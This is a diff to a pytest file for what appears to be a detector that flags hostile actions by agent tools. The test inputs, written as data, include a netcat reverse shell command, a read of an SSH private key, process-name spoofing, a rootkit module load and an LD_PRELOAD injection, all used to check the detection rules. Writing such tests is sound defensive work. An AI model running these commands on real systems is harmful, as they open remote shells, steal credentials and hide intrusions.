@@ -1,5 +1,7 @@
 import textwrap
 
+import pytest
+
 from vigiles.analysis.engine import Engine
 from vigiles.analysis.rules import Loader, load
 from vigiles.events import from_dict
@@ -271,3 +273,25 @@ def test_a_rule_on_variables_still_sees_an_exported_one_in_a_long_script():
     script = "\n".join(["make -C src"] * 50 + ["export LD_PRELOAD=/tmp/.x.so", "ls /"] + ["make -C docs"] * 50)
     findings = eng.analyze(from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": script}))
     assert [f.rule for f in findings] == ["preload"]
+
+
+@pytest.fixture(scope="module")
+def builtin_engine():
+    return Engine(load())
+
+
+@pytest.mark.parametrize("text, tool, rule", [
+    # an escape glues a letter onto the next word once backslashes are stripped (`\nnc` reads `nnc`)
+    ("bash -c $'id\\nnc -e /bin/sh 10.0.0.1 4444'", "bash", "reverse_shell_netcat_exec"),
+    ("import os\nos.system('id\\nnc -e /bin/sh 10.0.0.1 4444')", "python", "reverse_shell_netcat_exec"),
+    ("bash -c $'systemctl\\tenable evil.service'", "bash", "service_enabled"),
+    # literals written with quotes in a rule are looked for as the text is searched: without them
+    ("perl -e '$0=\"sshd\"; sleep 100'", "bash", "process_name_spoofed"),
+    ("print(open('/home/u/.ssh/id_rsa').read())", "python", "private_key_read"),
+    # a name that a rule also looks for as a substring counts anywhere
+    ("sudo modprobe reptile_module", "bash", "rootkit_named"),
+])
+def test_prefilter_does_not_hide_what_the_rules_see(builtin_engine, text, tool, rule):
+    fields = {"language": "python"} if tool == "python" else {}
+    event = from_dict({"kind": "action", "ts": 1, "tool": tool, "input": text, **fields})
+    assert rule in {f.rule for f in builtin_engine.analyze(event)}
